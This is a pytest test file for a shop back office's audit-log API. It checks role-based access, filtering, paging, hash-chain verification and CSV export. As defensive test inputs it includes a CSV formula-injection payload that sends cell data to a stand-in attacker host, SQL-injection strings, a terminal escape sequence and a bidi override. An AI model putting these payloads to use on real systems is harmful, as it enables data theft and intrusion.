"""The audit log in the back office (issue 9: the owner and the privacy officer read and
filter it; P6: every read of the audit log is itself an entry): the role matrix, each
filter, paging, the CSV file with formula cells neutralised, the head, the verify walk
(intact, tampered, too long to walk here), and malformed, huge and hostile filters.

Real staff (enrolled, signed in through the API) and real customers, on SQLite and
PostgreSQL; the entries to filter are appended through the audit service.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text
from sqlalchemy.orm import Session, sessionmaker

from quietshop import app
from quietshop.accounts import service as accounts
from quietshop.audit import service as audit
from quietshop.settings import Settings
from quietshop.staff import audit_api, audit_log
from quietshop.staff.need_to_know import ACTION_ROLES, Action
from quietshop.staff.roles import Role
from tests.accounts.factories import PASSWORD, make_customer
from tests.clock import T0
from tests.staff.desk import Clerk, cheap_customer_hashes, clerk
from tests.staff.factories import audit_entries

__all__ = ["cheap_customer_hashes", "clerk"]

AUDIT = "/api/v1/staff/audit"
READERS = (Role.OWNER, Role.PRIVACY_OFFICER)
NOT_READERS = tuple(role for role in Role if role not in READERS)


def event(**changes: Any) -> audit.AuditEvent:
    values: dict[str, Any] = {
        "action": "read",
        "staff_id": None,
        "role": "customer_service",
        "subject": "order:1",
        "customer_id": None,
        "data_kinds": ("contact",),
        "fields": ("orders.email",),
        "reason": "the order queue",
        "origin": "203.0.113.7",
    }
    return audit.AuditEvent(**{**values, **changes})


def append(db: Session, minutes: int = 0, **changes: Any) -> int:
    entry_id = audit.append(db, event(**changes), T0 + timedelta(minutes=minutes))
    db.commit()
    return entry_id


def seal(sessions: sessionmaker[Session]) -> None:
    """What the sealer beside `serve` does within seconds: chain the committed entries."""
    audit.seal(sessions, T0 + timedelta(minutes=1))


def read(api: TestClient, who: Clerk, **params: Any) -> Any:
    return api.get(AUDIT, params=params, headers=who.headers)


def ids(answer: Any) -> list[int]:
    assert answer.status_code == 200, answer.text
    return [entry["id"] for entry in answer.json()["entries"]]


def refused_field(answer: Any) -> str:
    assert answer.status_code == 422, answer.text
    assert answer.json()["error"] == "invalid_filter"
    field: str = answer.json()["detail"][0]["field"]
    return field


@pytest.fixture
def officer(clerk: Callable[..., Clerk]) -> Clerk:
    return clerk(Role.PRIVACY_OFFICER)


@pytest.fixture
def owner(clerk: Callable[..., Clerk]) -> Clerk:
    return clerk(Role.OWNER)


# ---------------------------------------------------------------- who may read


def test_only_the_owner_and_the_privacy_officer_read_the_audit_log(
    api: TestClient, db: Session, clerk: Callable[..., Clerk]
) -> None:
    assert ACTION_ROLES[Action.READ_AUDIT] == frozenset(READERS)
    for role in READERS:
        who = clerk(role)
        assert read(api, who).status_code == 200
        assert api.get(f"{AUDIT}.csv", headers=who.headers).status_code == 200
        assert api.get(f"{AUDIT}/head", headers=who.headers).status_code == 200
        assert api.post(f"{AUDIT}/verify", headers=who.headers).status_code == 200
    for role in NOT_READERS:
        who = clerk(role)
        # When someone of any other role asks, even with a filter that is malformed
        answers = [
            read(api, who, limit="huge"),
            api.get(f"{AUDIT}.csv", headers=who.headers),
            api.get(f"{AUDIT}/head", headers=who.headers),
            api.post(f"{AUDIT}/verify", headers=who.headers),
        ]
        # Then each is refused before anything is read, and each refusal is in the chain
        assert [a.status_code for a in answers] == [403] * 4, role
        assert {a.json()["error"] for a in answers} == {"forbidden"}
        denied = audit_entries(db, action="denied", staff_id=who.staff.id)
        assert len(denied) == 4
        assert all("(read_audit)" in entry.reason for entry in denied)
        assert audit_entries(db, action="audit_read", staff_id=who.staff.id) == []


def test_without_a_sign_in_nothing_is_answered(api: TestClient) -> None:
    assert api.get(AUDIT).status_code == 401
    assert api.post(f"{AUDIT}/verify").status_code == 401


# ---------------------------------------------------------------- reading and filtering


def test_entries_come_newest_first_with_who_and_what(
    api: TestClient,
    db: Session,
    sessions: sessionmaker[Session],
    officer: Clerk,
    clerk: Callable[..., Clerk],
) -> None:
    rep = clerk(Role.CUSTOMER_SERVICE)
    first = append(db, staff_id=rep.staff.id, subject="order:7", customer_id=42)
    seal(sessions)
    answer = read(api, officer, staff_id=rep.staff.id, subject="order:7")
    (entry,) = answer.json()["entries"]
    assert entry["id"] == first
    assert entry["staff_name"] == rep.staff.name  # staff may see who staff are
    assert (entry["role"], entry["subject"], entry["customer_id"]) == (
        "customer_service", "order:7", 42,
    )  # fmt: skip
    assert (entry["fields"], entry["data_kinds"]) == (["orders.email"], ["contact"])
    assert (entry["reason"], entry["origin"]) == ("the order queue", "203.0.113.7")
    assert entry["at"].startswith("2026-11-25T12:00:00")
    assert len(entry["hash"]) == 64 and entry["seq"] >= 1  # its seal, once sealed
    # Newest first over everything there is
    everything = ids(read(api, officer))
    assert everything == sorted(everything, reverse=True)


def test_every_read_of_the_log_is_an_entry_naming_the_filters(
    api: TestClient, db: Session, officer: Clerk
) -> None:
    read(api, officer, action="read", subject="order:1", limit="5")
    api.get(f"{AUDIT}.csv", params={"role": "billing"}, headers=officer.headers)
    api.get(f"{AUDIT}/head", headers=officer.headers)
    api.post(f"{AUDIT}/verify", headers=officer.headers)
    reads = audit_entries(db, action="audit_read", staff_id=officer.staff.id)
    assert [(e.subject, e.reason, e.role) for e in reads] == [
        ("audit:entries", "read the audit log: action=read, subject=order:1, limit=5",
         "privacy_officer"),
        ("audit:entries", "exported the audit log as CSV: role=billing", "privacy_officer"),
        ("audit:head", "read the chain head", "privacy_officer"),
        ("audit:chain", "verified the chain from the back office", "privacy_officer"),
    ]  # fmt: skip
    assert {e.origin for e in reads} == {"testclient"}


def test_each_filter_narrows_the_entries(
    api: TestClient, db: Session, owner: Clerk, clerk: Callable[..., Clerk]
) -> None:
    biller = clerk(Role.BILLING)
    a = append(db, 0, action="read", role="customer_service", subject="order:1", customer_id=5)
    b = append(db, 10, action="change", role="billing", subject="order:2", staff_id=biller.staff.id)
    c = append(db, 20, action="card_reveal", role="billing", subject="order:2", customer_id=5)
    mine = {a, b, c}

    def only(**params: Any) -> list[int]:
        return [entry_id for entry_id in ids(read(api, owner, **params)) if entry_id in mine]

    assert only(action="change") == [b]
    assert only(role="billing") == [c, b]
    assert only(staff_id=biller.staff.id) == [b]
    assert only(subject="order:2") == [c, b]
    assert only(since="2026-11-25T12:10:00Z") == [c, b]
    assert only(until="2026-11-25T12:10:00+00:00") == [a]  # before, not at
    # Another zone is the same moment: 13:15 in Paris is 12:15 UTC
    assert only(since="2026-11-25T13:05:00+01:00", until="2026-11-25T13:15:00+01:00") == [b]
    assert only(action="card_reveal", role="billing", subject="order:2") == [c]
    assert only(action="read", role="billing") == []


def test_a_customer_is_filtered_by_number_closed_accounts_too(
    api: TestClient, db: Session, settings: Settings, officer: Clerk
) -> None:
    ann = make_customer(db, settings, name="Ann Example")
    theirs = append(db, customer_id=ann.customer.id, subject=f"customer:{ann.customer.id}")
    append(db, customer_id=ann.customer.id + 1000)
    number = ann.customer.customer_number
    assert ids(read(api, officer, customer_number=number)) == [theirs]
    # The read names the customer's id: it is among the entries about them from now on
    (logged,) = audit_entries(db, action="audit_read", staff_id=officer.staff.id)
    assert (logged.customer_id, logged.reason) == (
        ann.customer.id, f"read the audit log: customer_number={number}",
    )  # fmt: skip
    # As printed in groups too
    grouped = f"{number[:4]} {number[4:8]} {number[8:]}"
    assert ids(read(api, officer, customer_number=grouped)) == [logged.id, theirs]
    # Closing the account keeps its entries, still found by its number
    accounts.close_account(db, settings, ann.signed_in, PASSWORD, T0, app.personal_data_registry())
    db.commit()
    assert theirs in ids(read(api, officer, customer_number=number))


def test_a_number_never_issued_finds_nothing_and_a_mistyped_one_is_refused(
    api: TestClient, db: Session, settings: Settings, officer: Clerk
) -> None:
    number = make_customer(db, settings).customer.customer_number
    wrong_digit = number[:-1] + str((int(number[-1]) + 1) % 10)
    assert refused_field(read(api, officer, customer_number=wrong_digit)) == "customer_number"
    assert refused_field(read(api, officer, customer_number="DROP TABLE")) == "customer_number"
    assert refused_field(read(api, officer, customer_number="")) == "customer_number"
    never = _unissued_number(db, settings)
    answer = read(api, officer, customer_number=never)
    assert answer.json() == {"entries": [], "next_before": None}


def _unissued_number(db: Session, settings: Settings) -> str:
    """A well-formed customer number that no customer has."""
    from quietshop.accounts.numbers import new_customer_number

    taken = {make_customer(db, settings).customer.customer_number}
    number = new_customer_number()
    while number in taken:
        number = new_customer_number()
    return number


def test_pages_follow_each_other_without_overlap(
    api: TestClient, db: Session, officer: Clerk
) -> None:
    made = [append(db, n, subject="order:99") for n in range(7)]
    seen: list[int] = []
    before: int | None = None
    for _ in range(4):
        params: dict[str, Any] = {"subject": "order:99", "limit": 3}
        if before is not None:
            params["before"] = before
        page = read(api, officer, **params).json()
        seen += [entry["id"] for entry in page["entries"]]
        before = page["next_before"]
        if before is None:
            break
    assert seen == list(reversed(made))
    assert before is None


# ---------------------------------------------------------------- bad filters


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"colour": "red"}, "colour"),  # unknown parameters are refused, not ignored
        ({"format": "csv"}, "format"),
        ({"limit": "0"}, "limit"),
        ({"limit": str(audit_log.MAX_PAGE + 1)}, "limit"),
        ({"limit": "9" * 30}, "limit"),  # huge
        ({"limit": "ten"}, "limit"),
        ({"limit": "-1"}, "limit"),
        ({"before": "0"}, "before"),
        ({"before": str(2**31)}, "before"),
        ({"staff_id": "1.5"}, "staff_id"),
        ({"action": "teleport"}, "action"),
        ({"role": "root"}, "role"),
        ({"since": "yesterday"}, "since"),
        ({"since": "2026-11-25T12:00:00"}, "since"),  # no time zone
        ({"until": "2026-13-45T99:00:00Z"}, "until"),
        ({"since": "2026-11-26T00:00:00Z", "until": "2026-11-25T00:00:00Z"}, "until"),
        ({"subject": "order:1\x00"}, "subject"),  # control characters
        ({"subject": "order:1\x1b[2J"}, "subject"),
        ({"subject": "order:\u202e1"}, "subject"),  # a bidi override
        ({"subject": "x" * (audit.MAX_SUBJECT + 1)}, "subject"),
        ({"since": "2" * 20_000}, "since"),
    ],
)
def test_a_malformed_filter_is_refused_naming_it(
    api: TestClient, officer: Clerk, params: dict[str, str], field: str
) -> None:
    assert refused_field(read(api, officer, **params)) == field


def test_a_filter_given_twice_is_refused(api: TestClient, officer: Clerk) -> None:
    answer = api.get(f"{AUDIT}?action=read&action=change", headers=officer.headers)
    assert refused_field(answer) == "action"


def test_sql_looking_text_is_only_text(api: TestClient, db: Session, officer: Clerk) -> None:
    append(db, subject="order:1")
    answer = read(api, officer, subject="order:1' OR '1'='1")
    assert answer.json()["entries"] == []
    # The filter as typed is in the read's entry, as text
    logged = audit_entries(db, action="audit_read", staff_id=officer.staff.id)[-1]
    assert logged.reason == "read the audit log: subject=order:1' OR '1'='1"


def test_a_refused_filter_appends_nothing(api: TestClient, db: Session, officer: Clerk) -> None:
    read(api, officer, limit="0")
    assert audit_entries(db, action="audit_read", staff_id=officer.staff.id) == []


# ---------------------------------------------------------------- the CSV file


def _csv(answer: Any) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="audit-log.csv"'
    return list(csv.DictReader(io.StringIO(answer.text)))


def test_the_csv_file_holds_the_filtered_view_with_formulas_neutralised(
    api: TestClient, db: Session, owner: Clerk, clerk: Callable[..., Clerk]
) -> None:
    biller = clerk(Role.BILLING)
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    entry_id = append(
        db, action="card_reveal", role="billing", staff_id=biller.staff.id,
        subject="@SUM(1+1)", reason=hostile, origin="+1-1",
    )  # fmt: skip
    append(db, action="read", subject="-2+3")
    rows = _csv(api.get(f"{AUDIT}.csv", params={"action": "card_reveal"}, headers=owner.headers))
    assert [row["id"] for row in rows] == [str(entry_id)]
    (row,) = rows
    # Each cell a spreadsheet would run starts with a ' and reads as text
    assert row["reason"] == "'" + hostile
    assert row["subject"] == "'@SUM(1+1)"
    assert row["origin"] == "'+1-1"
    assert (row["staff_name"], row["role"], row["fields"]) == (
        biller.staff.name, "billing", "orders.email",
    )  # fmt: skip
    assert list(row) == list(audit_log.CSV_COLUMNS)


def test_a_long_csv_stops_at_its_limit_and_says_where_to_go_on(
    api: TestClient, db: Session, officer: Clerk, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audit_log, "CSV_MAX_ROWS", 3)
    made = [append(db, n, subject="order:55") for n in range(5)]
    first = api.get(f"{AUDIT}.csv", params={"subject": "order:55"}, headers=officer.headers)
    assert [int(row["id"]) for row in _csv(first)] == made[:1:-1]
    assert first.headers["x-next-before"] == str(made[2])
    rest = api.get(
        f"{AUDIT}.csv",
        params={"subject": "order:55", "before": first.headers["x-next-before"]},
        headers=officer.headers,
    )
    assert [int(row["id"]) for row in _csv(rest)] == made[1::-1]
    assert "x-next-before" not in rest.headers


def test_the_csv_file_refuses_bad_filters_too(api: TestClient, officer: Clerk) -> None:
    answer = api.get(f"{AUDIT}.csv", params={"since": "soon"}, headers=officer.headers)
    assert refused_field(answer) == "since"


# ---------------------------------------------------------------- the head and verifying


def test_the_head_counts_every_entry_its_own_read_included(
    api: TestClient, db: Session, sessions: sessionmaker[Session], owner: Clerk
) -> None:
    append(db)
    seal(sessions)
    before = audit.entry_count(db)
    answer = api.get(f"{AUDIT}/head", headers=owner.headers)
    assert answer.status_code == 200
    head = answer.json()
    assert head["entries"] == before + 1
    db.expire_all()
    found = audit.chain_head(db)
    assert found is not None
    assert (head["head_id"], head["head_hash"]) == (found.id, found.hash)
    (logged,) = audit_entries(db, action="audit_read", staff_id=owner.staff.id)
    assert logged.subject == "audit:head"


def test_verify_answers_intact(
    api: TestClient, db: Session, sessions: sessionmaker[Session], owner: Clerk
) -> None:
    append(db)
    seal(sessions)
    answer = api.post(f"{AUDIT}/verify", headers=owner.headers)
    assert answer.status_code == 200
    result = answer.json()
    assert (result["intact"], result["first_broken_id"], result["problem"]) == (True, None, "")
    assert result["passed"] is True
    # Every entry but the verify's own read, which waits for the sealer
    assert (result["entries_checked"], result["unsealed"]) == (audit.entry_count(db) - 1, 1)


def test_verify_names_the_first_broken_entry(
    api: TestClient, db: Session, sessions: sessionmaker[Session], owner: Clerk
) -> None:
    broken = append(db, reason="as it was")
    append(db)
    seal(sessions)
    db.execute(text("UPDATE audit_entries SET reason = 'rewritten' WHERE id = :id"), {"id": broken})
    db.commit()
    result = api.post(f"{AUDIT}/verify", headers=owner.headers).json()
    assert (result["intact"], result["passed"]) == (False, False)
    assert result["first_broken_id"] == broken
    assert "hash" in result["problem"]


def test_a_chain_too_long_to_walk_here_points_to_the_command(
    api: TestClient, db: Session, owner: Clerk, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audit_log, "VERIFY_INLINE_MAX", 1)
    append(db)
    append(db)
    answer = api.post(f"{AUDIT}/verify", headers=owner.headers)
    assert answer.status_code == 409
    body = answer.json()
    assert body["error"] == "verify_with_the_command"
    assert "quietshop audit verify" in body["detail"]
    assert body["limit"] == 1 and body["entries"] >= 2


# ---------------------------------------------------------------- the routes


def test_every_audit_route_declares_read_audit() -> None:
    assert {
        ("GET", AUDIT): Action.READ_AUDIT,
        ("GET", f"{AUDIT}.csv"): Action.READ_AUDIT,
        ("GET", f"{AUDIT}/head"): Action.READ_AUDIT,
        ("POST", f"{AUDIT}/verify"): Action.READ_AUDIT,
    } == audit_api.STAFF_ROUTE_ACTIONS
